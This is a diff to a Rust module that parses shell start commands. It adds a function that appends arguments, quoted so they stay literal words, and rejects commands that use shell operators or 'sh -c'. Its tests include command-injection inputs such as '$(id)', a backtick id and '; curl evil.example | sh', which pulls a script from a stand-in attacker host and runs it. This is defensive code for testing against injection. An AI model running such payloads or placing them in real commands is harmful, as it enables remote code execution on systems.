@@ -1,5 +1,7 @@
 //! A start command as the shell would take it apart.
 
+use crate::drift::Secret;
+
 /// The words of a command, and of each command that it hands to a shell with `-c`.
 #[derive(Debug)]
 pub struct CommandLine {
@@ -37,6 +39,73 @@ impl CommandLine {
     }
 }
 
+/// The command with the words of these parts appended, each quoted for the shell. `None` where they would not become arguments of
+/// its program: behind `;` or `|`, in a comment, after `--`, or beside the text of `sh -c`.
+pub fn appended(command: &str, parts: &[&str]) -> Option<Secret> {
+    if !is_one_program(command) {
+        return None;
+    }
+    let mut text = command.trim_end().to_owned();
+    for part in parts {
+        for word in shlex::split(part)? {
+            text.push(' ');
+            text.push_str(&quoted(&word)?);
+        }
+    }
+    let line = CommandLine::of(&text);
+    parts.iter().all(|part| line.has(part)).then(|| Secret::new(text))
+}
+
+/// Names of shells: an argument behind the text of their `-c` is none of the program that the text runs.
+const SHELLS: [&str; 6] = ["ash", "bash", "busybox", "dash", "sh", "zsh"];
+
+/// Whether the text runs one program whose arguments reach to its end.
+fn is_one_program(command: &str) -> bool {
+    let Some(words) = shlex::split(command).filter(|_| is_plain(command)) else { return false };
+    let Some(program) = words.first() else { return false };
+    let is_shell = SHELLS.contains(&program.rsplit('/').next().unwrap_or(program));
+    let is_handed_on = handed_on(&words).next().is_some() || is_shell && words.iter().any(|word| is_command_flag(word));
+    !is_handed_on && !words.iter().any(|word| word == "--")
+}
+
+/// Whether nothing outside quotes ends the program's arguments.
+fn is_plain(command: &str) -> bool {
+    let (mut quote, mut is_escaped, mut is_start) = (None, false, true);
+    for character in command.chars() {
+        match (quote, character) {
+            _ if is_escaped => is_escaped = false,
+            (Some('"') | None, '\\') => is_escaped = true,
+            (Some(open), _) if open == character => quote = None,
+            (None, '\'' | '"') => quote = Some(character),
+            (None, ';' | '&' | '|' | '(' | ')' | '<' | '>' | '`' | '\n') => return false,
+            (None, '#') if is_start => return false,
+            _ => {}
+        }
+        is_start = quote.is_none() && character.is_whitespace();
+    }
+    quote.is_none() && !is_escaped
+}
+
+/// A word for the shell. A variable in it is still one, within double quotes; everything else is literal.
+fn quoted(word: &str) -> Option<String> {
+    let is_literal = |text: &str| text.chars().all(|one| one.is_ascii_alphanumeric() || "-_=./:,@%+".contains(one));
+    let (first, variables) = word.split_once('$').unwrap_or((word, ""));
+    let is_made_of_variables = word.contains('$')
+        && is_literal(first)
+        && variables.split('$').all(|text| rest_of_variable(text).is_some_and(is_literal));
+    if is_made_of_variables { Some(format!("\"{word}\"")) } else { shlex::try_quote(word).ok().map(Into::into) }
+}
+
+/// What follows the name of a variable: `NAME` or `{NAME}`.
+fn rest_of_variable(text: &str) -> Option<&str> {
+    let is_part = |one: char| one.is_ascii_alphanumeric() || one == '_';
+    let (name, rest) = match text.strip_prefix('{') {
+        Some(inner) => inner.split_once('}')?,
+        None => text.split_at(text.find(|one| !is_part(one)).unwrap_or(text.len())),
+    };
+    (!name.is_empty() && name.chars().all(is_part)).then_some(rest)
+}
+
 /// `--beat` in `--beat=true`.
 fn carries(word: &str, option: &str) -> bool {
     option.starts_with("--") && word.strip_prefix(option).is_some_and(|rest| rest.starts_with('='))
@@ -44,9 +113,13 @@ fn carries(word: &str, option: &str) -> bool {
 
 /// What stands behind `-c`: `sh -c '…'`, `bash -lc '…'`. Only text of several words is worth a look.
 fn handed_on(line: &[String]) -> impl Iterator<Item = &str> {
-    let is_command = |word: &str| word.starts_with('-') && !word.starts_with("--") && word.ends_with('c');
-    let pairs = line.windows(2).filter(move |pair| is_command(&pair[0]));
+    let pairs = line.windows(2).filter(|pair| is_command_flag(&pair[0]));
     pairs.map(|pair| pair[1].as_str()).filter(|text| text.contains(char::is_whitespace))
+}
+
+/// `-c`, `-lc`.
+fn is_command_flag(word: &str) -> bool {
+    word.starts_with('-') && !word.starts_with("--") && word.ends_with('c')
 }
 
 /// Text with a quote that is never closed is taken apart at its blanks.
@@ -62,7 +135,7 @@ fn words(text: &str) -> Vec<String> {
 
 #[cfg(test)]
 mod tests {
-    use super::CommandLine;
+    use super::{CommandLine, appended};
 
     #[test]
     fn parts_are_words_and_not_pieces_of_them() {
@@ -92,6 +165,46 @@ mod tests {
             ("celery", "", true),
         ] {
             assert_eq!(CommandLine::of(command).has(part), has, "{part} in {command}");
+        }
+    }
+
+    #[test]
+    fn parts_are_appended_as_arguments_or_not_at_all() {
+        for (command, parts, expected) in [
+            ("celery worker", &["-B"][..], Some("celery worker -B")),
+            ("celery worker ", &["-B", "--loglevel INFO"], Some("celery worker -B --loglevel INFO")),
+            ("FOO='a;b' exec celery -c 4", &["-B"], Some("FOO='a;b' exec celery -c 4 -B")),
+            ("celery \"a && b\"", &["-B"], Some("celery \"a && b\" -B")),
+            ("celery \\; worker#1", &["-B"], Some("celery \\; worker#1 -B")),
+            ("web", &["--name 'a b'"], Some("web --name 'a b'")),
+            ("web", &["--port=$PORT", "-h ${HOST}:80"], Some("web \"--port=$PORT\" -h \"${HOST}:80\"")),
+            // What a checkout declares is never more than words.
+            ("web", &["$(id)"], Some("web '$(id)'")),
+            ("web", &["`id`"], Some("web '`id`'")),
+            ("web", &["'; curl evil.example | sh'"], Some("web '; curl evil.example | sh'")),
+            ("web", &["a$"], Some("web 'a$'")),
+            ("web", &["$PORT;id"], Some("web '$PORT;id'")),
+            ("web", &["${PORT"], Some("web '${PORT'")),
+            ("bash start.sh", &["-B"], Some("bash start.sh -B")),
+            ("sh -c 'celery worker'", &["-B"], None),
+            ("/bin/bash -lc celery", &["-B"], None),
+            ("celery worker; echo done", &["-B"], None),
+            ("migrate && celery worker", &["-B"], None),
+            ("celery worker &", &["-B"], None),
+            ("celery worker | tee log", &["-B"], None),
+            ("celery worker > log", &["-B"], None),
+            ("(celery worker)", &["-B"], None),
+            ("celery worker # beat", &["-B"], None),
+            ("celery worker -- queue", &["-B"], None),
+            ("celery `nproc`", &["-B"], None),
+            ("celery\nworker", &["-B"], None),
+            ("celery 'worker", &["-B"], None),
+            ("celery worker \\", &["-B"], None),
+            ("", &["-B"], None),
+            ("  ", &["-B"], None),
+        ] {
+            let text = appended(command, parts);
+            assert_eq!(text.as_ref().map(crate::drift::Secret::reveal), expected, "{parts:?} to {command}");
         }
     }
 
